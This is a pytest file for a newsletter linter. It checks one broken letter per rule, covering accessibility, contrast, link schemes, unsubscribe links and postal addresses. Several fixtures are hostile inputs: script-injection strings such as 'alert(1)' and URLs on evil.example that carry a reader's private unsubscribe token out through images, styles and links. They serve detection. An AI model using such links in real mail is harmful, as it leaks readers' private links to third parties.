"""Every rule, on a letter that breaks it and no other."""

from __future__ import annotations

from dataclasses import replace

import pytest

from syndicate.letters import PREFERENCES, UNSUBSCRIBE
from tests.linter.bench import GOOD, HTML, broken, found, rules

PARAGRAPH = '<p class="text">'
IMAGE = '<img class="photo" src="https://example.org/lagoon.jpg" alt="A lagoon" width="160">'
SHEET = "<style>\n"
PICTURE = "https://example.org/a.jpg"
FURTHER = "https://example.org/wall"


def with_style(style: str) -> tuple[str, str]:
    """The paragraph with a style of its own."""
    return PARAGRAPH, f'<p class="text" style="{style}">'


def with_rule(rule: str) -> tuple[str, str]:
    """The sheet with a rule more."""
    return SHEET, f"{SHEET}{rule}\n"


def after(html: str) -> tuple[str, str]:
    """The page with something more in it."""
    return IMAGE, f"{IMAGE}\n{html}"


BROKEN = {
    "doctype": ("<!DOCTYPE html>\n", ""),
    "charset": ('<meta charset="utf-8">\n', ""),
    "title": ("<title>The weekly</title>\n", ""),
    "viewport": ('<meta name="viewport" content="width=device-width, initial-scale=1">\n', ""),
    "zoom": ("initial-scale=1", "initial-scale=1, user-scalable=no"),
    "color-scheme": ('<meta name="supported-color-schemes" content="light dark">\n', ""),
    "article": ('role="article" ', ""),
    "lang": ('<div class="desk" role="article" lang="en"', '<div class="desk" role="article"'),
    "dir": ('<html lang="en" dir="ltr">', '<html lang="en">'),
    "presentation": ('<table role="presentation" width="600">', '<table width="600">'),
    "one-h1": ("<h1>The weekly</h1>", "<p>The weekly</p>"),
    "heading-order": ("<h2>Energy</h2>", ""),
    "heading-text": ("<h2>Energy</h2>", "<h2>&nbsp;</h2>"),
    "alt": ('alt="A lagoon" ', ""),
    "link-text": after('<a class="link" href="https://example.org/lagoon"><img src="https://example.org/a.jpg" alt="" width="9"></a>'),
    "link-hidden": after('<a class="link" aria-hidden="true" href="https://example.org/lagoon">The lagoon</a>'),
    "active": after("<script>alert(1)</script>"),
    "remote-style": with_rule("@import url(https://example.org/a.css);"),
    "contrast": with_style("color: #808080"),
    "colour": with_style("color: #20202080"),
    "text-size": with_style("font-size: 13px"),
    "link-line": (
        "one seal.",
        'one <a class="link" href="https://example.org/lagoon" style="color: #0a4a8a; text-decoration: none">seal</a>.',
    ),
    "link-scheme": after('<p><a class="link" href="javascript:alert(1)">Click</a></p>'),
    "link-relative": after('<p><a class="link" href="../lagoon">The lagoon</a></p>'),
    "link-http": ('src="https://example.org/lagoon.jpg"', 'src="http://example.org/lagoon.jpg"'),
    "text-links": after(f'<p><a class="link" href="{FURTHER}">The wall</a></p>'),
    "token": (PARAGRAPH, f"{PARAGRAPH}__SYN_MORE__ "),
    "unsubscribe": (f'href="{UNSUBSCRIBE}" style="', f'href="{UNSUBSCRIBE}" style="display: none; '),
    "preferences": (f'href="{PREFERENCES}"', 'href="https://example.org/lagoon"'),
    "address": ("4 Lock Row,<br>", ""),
    "size": (PARAGRAPH, f"{PARAGRAPH}{'words ' * 14_000}"),
    "style-size": with_rule("/*" + "." * 17_000 + "*/"),
    "style-nested": with_rule("@supports (color: red) { @media (hover) { .cell { color: #202020 } } }"),
    "style-place": after("<style>@media (hover) { .cell { color: #202020 } }</style>"),
}
"""By each rule, what it watches over, and what stands there instead."""


def test_the_good_letter_is_good() -> None:
    """Or no other test would say anything."""
    assert found(GOOD) == ()


@pytest.mark.parametrize("rule", BROKEN)
def test_each_rule_catches_its_own_fault_and_no_other_does(rule: str) -> None:
    """One thing wrong is one finding."""
    assert rules(broken(*BROKEN[rule])) == [rule]


@pytest.mark.parametrize("rule", BROKEN)
def test_each_finding_says_where_and_what_to_do(rule: str) -> None:
    """A line and an element that are there, and a remedy that does not end in a full stop, so that clients may follow."""
    (finding,) = found(broken(*BROKEN[rule]))
    assert finding.where
    assert finding.remedy
    assert finding.severity == "fault"
    assert not str(finding).endswith(".")


MORE = {
    "a second title": (("<h2>Energy</h2>", "<h1>Energy</h1><h2>Energy</h2>"), ["one-h1"]),
    "a ghost table": (after("<!--[if mso]><table width='600'><tr><td><![endif]-->"), ["presentation"]),
    "a ghost table that says so": (after("<!--[if mso]><table role='presentation'><tr><td><![endif]-->"), []),
    "a table that is commented out": (after("<!-- <table> -->"), []),
    "a table of data": (after("<table><tr><th>Year</th></tr><tr><td>2026</td></tr></table>"), []),
    "a table of layout around one of data": (
        after("<table><tr><td><table><tr><th>Year</th></tr></table></td></tr></table>"),
        ["presentation"],
    ),
    "an alt that is a file's name": (("A lagoon", "lagoon.jpg"), ["alt"]),
    "an empty alt": (('alt="A lagoon"', 'alt=""'), []),
    "a link by a label alone": (after('<a aria-label="The lagoon" href="https://example.org/lagoon"></a>'), []),
    "a link by its picture's alt": (after(f'<a class="link" href="https://example.org/lagoon" style="color: #0a4a8a">{IMAGE}</a>'), []),
    "a picture's link that is hidden": (
        after(
            f'<a class="link" aria-hidden="true" tabindex="-1" href="https://example.org/lagoon"><img src="{PICTURE}" alt="" width="9"></a>'
        ),
        [],
    ),
    "a handler": ((PARAGRAPH, '<p onclick="alert(1)">'), ["active"]),
    "a page that leads elsewhere": (
        ('<meta charset="utf-8">', '<meta charset="utf-8"><meta http-equiv="refresh" content="0">'),
        ["active"],
    ),
    "a form with a field": (after('<form><input type="text"></form>'), ["active", "active"]),
    "a linked sheet": (("<title>", '<link rel="stylesheet" href="https://example.org/a.css"><title>'), ["remote-style"]),
    "a font from elsewhere": (with_rule("@font-face { font-family: x; src: url(https://example.org/x.woff) }"), ["remote-style"]),
    "large text in grey": (with_style("color: #888888; font-size: 24px"), []),
    "bold text in grey": (with_style("color: #888888; font: bold 19px Georgia"), []),
    "not so large text in grey": (with_style("color: #888888; font-size: 23px"), ["contrast"]),
    "small text on phones alone": (with_rule("@media (max-width: 600px) { .text { font-size: 12px } }"), ["text-size"]),
    "small text within a range": (with_rule("@media (width <= 600px) { .text { font-size: 8px } }"), ["text-size"]),
    "small text between widths": (
        with_rule("@media screen and (min-width: 1px) and (max-width: 600px) { .text { font-size: 8px } }"),
        ["text-size"],
    ),
    "small text on a desk alone": (with_rule("@media (min-width: 601px) { .text { font-size: 12px } }"), ["text-size"]),
    "pale and small, hidden in Outlook": (with_style("color: #fefefe; font-size: 8px; mso-hide: all"), ["contrast", "text-size"]),
    "text of no size": (with_style("font-size: 0"), []),
    "dark text in the dark alone": (with_rule("@media (prefers-color-scheme: dark) { .text { color: #404040 } }"), ["contrast"]),
    "the same, hidden in the dark": (
        with_rule("@media (prefers-color-scheme: dark) { .text { color: #404040; display: none } }"),
        [],
    ),
    "a ground by an attribute": ((PARAGRAPH, '<p class="text" bgcolor="#303030">'), ["contrast"]),
    "a colour that is none": (with_style("color: banana"), ["colour"]),
    "an inherited colour": (with_style("color: inherit; background: none"), []),
    "a link in running text, underlined": (
        ("one seal.", 'one <a class="link" href="https://example.org/lagoon" style="color: #0a4a8a">seal</a>.'),
        [],
    ),
    "a telephone number": (after('<p><a class="link" href="tel:+441632">Call</a></p>'), ["link-scheme"]),
    "a front page": (after('<p><a class="link" href="https://example.org/">The Example</a></p>'), []),
    "a letter": (after('<p><a class="link" href="mailto:a@example.org">Write</a></p>'), []),
    "an anchor": (after('<p><a class="link" href="#top">Up</a></p>'), ["link-relative"]),
    "a link to nothing": (after('<p><a class="link" href="">The lagoon</a></p>'), ["link-relative"]),
    "an address that is none": (after('<p><a class="link" href="https://[broken">The lagoon</a></p>'), ["link-scheme"]),
    "a picture inside the letter": (('src="https://example.org/lagoon.jpg"', 'src="cid:lagoon"'), ["link-scheme"]),
    "an at-rule in another, alone in its sheet": (
        ("</style>", "</style><style>@supports (color: red) { @media (hover) { .cell { color: #202020 } } }</style>"),
        [],
    ),
}
"""What else each rule sees, and what it lets be."""


@pytest.mark.parametrize(("change", "expected"), MORE.values(), ids=MORE.keys())
def test_rules_know_their_limits(change: tuple[str, str], expected: list[str]) -> None:
    """A rule that cries for nothing is switched off, and then says nothing at all."""
    assert rules(broken(*change)) == expected


UNREAD = {
    "text-links": (("https://example.org/lagoon\n", ""), "lacks the link https://example.org/lagoon"),
    "html-links": (("The lagoon\n", f"The lagoon\n{FURTHER}.\n"), f"lacks the link {FURTHER},"),
    "unsubscribe": ((f"Unsubscribe: {UNSUBSCRIBE}\n", ""), "has no link by which readers could leave"),
    "preferences": ((f"Preferences: {PREFERENCES}\n", ""), "has no link by which readers could change what they get"),
    "address": (("4 Lock Row", "5 Lock Row"), "does not show the postal address"),
    "token": (("The lagoon\n", "The lagoon __SYN_SUBJECT__\n"), "holds __SYN_SUBJECT__"),
}


@pytest.mark.parametrize("rule", UNREAD)
def test_the_text_part_is_held_to_the_same(rule: str) -> None:
    """Whoever reads it has the same links, exits and address."""
    change, message = UNREAD[rule]
    (finding,) = found(broken(*change, part="text"))
    assert finding.rule == rule
    assert message in finding.what


def test_links_filled_in_for_everybody_count() -> None:
    """On the web a letter's exits are letters to the sender."""
    letter = GOOD
    for token, wish in ((UNSUBSCRIBE, "unsubscribe"), (PREFERENCES, "preferences")):
        link = f"mailto:weekly@example.org?subject={wish}%20weekly"
        letter = replace(letter, html=letter.html.replace(token, link), text=letter.text.replace(token, link))
    assert found(letter) == ()


def test_without_an_address_the_settings_are_named() -> None:
    """Not the template, which has nothing to show."""
    (finding,) = found(GOOD, address="")
    assert finding.rule == "address"
    assert "site.address" in finding.remedy


def test_stories_left_out_are_said_and_are_no_mistake() -> None:
    """How many ran, and how many found no room."""
    (finding,) = found(replace(GOOD, left_out=7))
    assert (finding.rule, finding.severity) == ("left-out", "note")
    assert finding.what == "holds 1 story; 7 more found no room and are on the web alone"


def test_what_is_wrong_thirty_times_is_said_once() -> None:
    """With the first place, and how many more there are."""
    letter = broken(IMAGE, (IMAGE.replace('alt="A lagoon" ', "") + "\n") * 30)
    (finding,) = found(letter)
    line = HTML[: HTML.index(IMAGE)].count("\n") + 1
    assert finding.where == f'line {line}, <img class="photo">, and 29 more'


def test_findings_stand_in_order_of_place() -> None:
    """The letter as a whole, its lines from the top, its text part."""
    letter = broken('alt="A lagoon" ', "")
    letter = replace(letter, html=letter.html.replace('<html lang="en"', "<html").replace("<!DOCTYPE html>\n", ""), text="The weekly\n")
    assert [finding.where.partition(",")[0] for finding in found(letter)] == [
        *("the letter", "line 1", "line 21"),
        *("text part", "text part", "text part", "text part"),
    ]


def test_contrast_names_colours_scheme_and_need() -> None:
    """And a shade that would do."""
    (finding,) = found(broken(*with_style("color: #808080")))
    assert finding.what == "text #808080 on #ffffff has a contrast of 3.94 in the light scheme, and needs 4.5"
    assert finding.remedy == "write #757575, or change the ground"


@pytest.mark.parametrize("rule", ["style-size", "style-nested", "style-place"])
def test_what_gmail_alone_does_is_said_where_it_is_among_the_clients(rule: str) -> None:
    """With its name; the budget of the letter holds for everybody."""
    assert [finding.clients for finding in found(broken(*BROKEN[rule]))] == [("Gmail",)]
    assert found(broken(*BROKEN[rule]), clients=["apple-mail"]) == ()
    assert [finding.clients for finding in found(broken(*BROKEN["size"]), clients=["apple-mail"])] == [()]


ADDRESSES = {
    "at the end of a sentence": "Read https://example.org/lagoon.",
    "in brackets": "The lagoon (https://example.org/lagoon)",
    "in brackets with more": "(The lagoon: see https://example.org/lagoon.)",
    "in brackets of all kinds": "[{(https://example.org/lagoon)}]",
    "in angle brackets": "The lagoon <https://example.org/lagoon>, and more",
    "in quotes": 'The lagoon: "https://example.org/lagoon"',
}


@pytest.mark.parametrize("line", ADDRESSES.values(), ids=ADDRESSES.keys())
def test_addresses_are_found_in_sentences(line: str) -> None:
    """Without what follows them."""
    assert found(broken("https://example.org/lagoon", line, part="text")) == ()


@pytest.mark.parametrize("address", ["https://example.org/lagoon_(tidal)", "https://example.org/who?", "https://example.org/a,b."])
def test_an_address_may_end_as_sentences_do(address: str) -> None:
    """Then it is the same in both parts."""
    letter = broken('https://example.org/lagoon"', f'{address}"')
    assert found(replace(letter, text=GOOD.text.replace("https://example.org/lagoon", address))) == ()


@pytest.mark.parametrize("line", ["(see {})", "{}.", "[{}], and more", "({}).", "“{}”"])
def test_an_address_may_end_in_a_bracket_of_its_own(line: str) -> None:
    """Those that it does not open are the sentence's."""
    address = "https://example.org/a_(b)"
    letter = broken('https://example.org/lagoon"', f'{address}"')
    assert found(replace(letter, text=GOOD.text.replace("https://example.org/lagoon", line.format(address)))) == ()


PRIVATE = {
    "a picture": (after(f'<img class="spy" src="https://evil.example/?u={UNSUBSCRIBE}" alt="" width="9">'), "inside src"),
    "a picture without a scheme": (
        (' src="https://example.org', f' srcset="//evil.example/?u={PREFERENCES}" src="https://example.org'),
        "srcset",
    ),
    "a ground": (with_style(f"color: #202020; background: url(https://evil.example/{UNSUBSCRIBE}) #ffffff"), "inside style"),
    "a link": (('https://example.org/lagoon"', f'HTTPS://evil.example/?u={UNSUBSCRIBE}"'), "inside href"),
    "a mail": ((f'href="{PREFERENCES}"', f'href="mailto:evil@evil.example?body=preferences{PREFERENCES}"'), "inside href"),
}


@pytest.mark.parametrize(("change", "place"), PRIVATE.values(), ids=PRIVATE.keys())
def test_a_readers_own_link_is_for_nobody_else(change: tuple[str, str], place: str) -> None:
    """As part of an address it is told to whoever is asked for that."""
    (finding,) = [each for each in found(broken(*change)) if each.rule == "link-private"]
    assert place in finding.what
    assert finding.what.endswith("which gives a reader's private link to others")
    assert finding.severity == "fault"


def test_nor_in_the_text_part() -> None:
    """There mail programs make links of addresses."""
    given = broken("Unsubscribe: ", "Unsubscribe: https://evil.example/?u=", part="text")
    (finding,) = [each for each in found(given) if each.rule == "link-private"]
    assert (finding.where, finding.what) == (
        "text part",
        f"has {UNSUBSCRIBE} inside another address, which gives a reader's private link to others",
    )


def test_an_address_that_another_begins_with_is_not_carried() -> None:
    """To be near is not to be the same."""
    (finding, other) = found(broken("https://example.org/lagoon", "https://example.org/lagoons", part="text"))
    assert (finding.rule, other.rule) == ("html-links", "text-links")
